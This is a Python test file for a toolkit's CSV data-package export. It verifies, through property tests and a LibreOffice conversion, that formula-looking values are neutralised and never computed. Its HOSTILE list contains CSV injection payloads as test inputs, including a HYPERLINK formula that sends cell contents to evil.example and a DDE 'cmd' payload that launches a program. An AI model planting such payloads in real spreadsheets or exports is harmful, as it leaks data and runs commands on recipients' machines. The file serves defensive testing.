"""Formula-looking text in the package's CSV files is never computed by a spreadsheet.

The rule (:func:`protect`) is checked as a property (exact inverse, nothing left that
starts like a formula), and the real files are opened in LibreOffice (``soffice``
converts them to xlsx, as a person double-clicking them would open them) to find no
formula and no computed value. A control file without the protection shows that the same
conversion does compute formulas, so the test can fail.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import attrs
import openpyxl
import pytest
from cfbu_toolkit_datapackage import protect, unprotect
from hypothesis import given
from hypothesis import strategies as st

import cfbu_toolkit as cfbu

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1;"Klik her")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    "=cmd|' /C calc'!A0",
)

_STARTS = st.sampled_from(["", "'", "''", " ", " '", "=", "+", "-", "@", "\t", "\r", "\n"])


@given(st.tuples(_STARTS, _STARTS, st.text()).map("".join))
def test_protect_is_undone_exactly_and_leaves_nothing_formula_like(text: str) -> None:
    written = protect(text)
    assert unprotect(written) == text
    assert written.lstrip(" ")[:1] not in set("=+-@\t\r\n")


@given(st.text())
def test_a_value_that_is_not_protected_is_exact_as_written(text: str) -> None:
    if protect(text) == text:
        assert unprotect(text) == text


def _hostile_plan() -> cfbu.Plan:
    plan = cfbu.examples.demo_plan()
    organisations = list(plan.organisations)
    for i, text in enumerate(HOSTILE):
        organisations[i] = attrs.evolve(organisations[i], description=text)
    organisations[0] = attrs.evolve(organisations[0], name="=2+2")
    mapping = plan.mappings[0]
    entry = attrs.evolve(mapping.entries[0], next_step="=3+3", notes="@SUM(4;4)")
    mapping = attrs.evolve(mapping, entries=(entry, *mapping.entries[1:]))
    return attrs.evolve(
        plan, organisations=tuple(organisations), mappings=(mapping, *plan.mappings[1:])
    )


def test_the_csv_files_carry_no_formula_looking_text_and_give_it_back() -> None:
    plan = _hostile_plan()
    data = cfbu.export(plan, format="datapackage")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("data/organisation.csv").decode())))
        meta = archive.read("datapackage.json").decode()
    assert "x-cfbu-formula-protection" in meta
    by_id = {row["organisation_id"]: row for row in rows}
    for org in plan.organisations:
        row = by_id[org.id]
        for written, original in ((row["name"], org.name), (row["description"], org.description)):
            assert written.lstrip(" ")[:1] not in set("=+-@\t\r\n"), written
            assert unprotect(written) == (original or "")


def _open_in_libreoffice(
    soffice: str, folder: Path, names: list[str]
) -> dict[str, openpyxl.Workbook]:
    """Each CSV of ``folder`` as LibreOffice opens it (default import), saved as xlsx."""
    out = folder / "opened"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{folder / 'profile'}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            *(str(folder / name) for name in names),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return {
        name: openpyxl.load_workbook(out / name.replace(".csv", ".xlsx"), data_only=False)
        for name in names
    }


def _cells(wb: openpyxl.Workbook) -> list[openpyxl.cell.Cell]:
    return [cell for row in wb.active.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.libreoffice
def test_libreoffice_computes_nothing_in_the_packages_csv_files(
    tmp_path: Path, soffice: str
) -> None:
    data = cfbu.export(_hostile_plan(), format="datapackage")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        archive.extractall(tmp_path)
    names = ["organisation.csv", "mapping_entry.csv"]
    for name in names:
        shutil.copy(tmp_path / "data" / name, tmp_path / name)
    control = tmp_path / "control.csv"
    control.write_text("a,b\r\n=1+1,x\r\n", encoding="utf-8")
    opened = _open_in_libreoffice(soffice, tmp_path, [*names, "control.csv"])

    # The control shows LibreOffice computing an unprotected formula on this machine.
    assert [c.data_type for c in _cells(opened["control.csv"])] == ["s", "s", "f", "s"]

    for name in names:
        cells = _cells(opened[name])
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], name
        with open(tmp_path / name, encoding="utf-8", newline="") as handle:
            written = {v for row in csv.reader(handle) for v in row if v}
        shown = {c.value for c in cells if c.data_type == "s"}
        # every protected value shows as it was written (the apostrophe visible), as text
        for value in written:
            if value.startswith("'"):
                assert value.replace("\r", "\n") in shown, value
    hostile_shown = {c.value for c in _cells(opened["organisation.csv"])}
    assert "'=1+1" in hostile_shown
    assert "'=2+2" in hostile_shown
    assert not any(isinstance(v, int | float) and v in (2, 4) for v in hostile_shown)
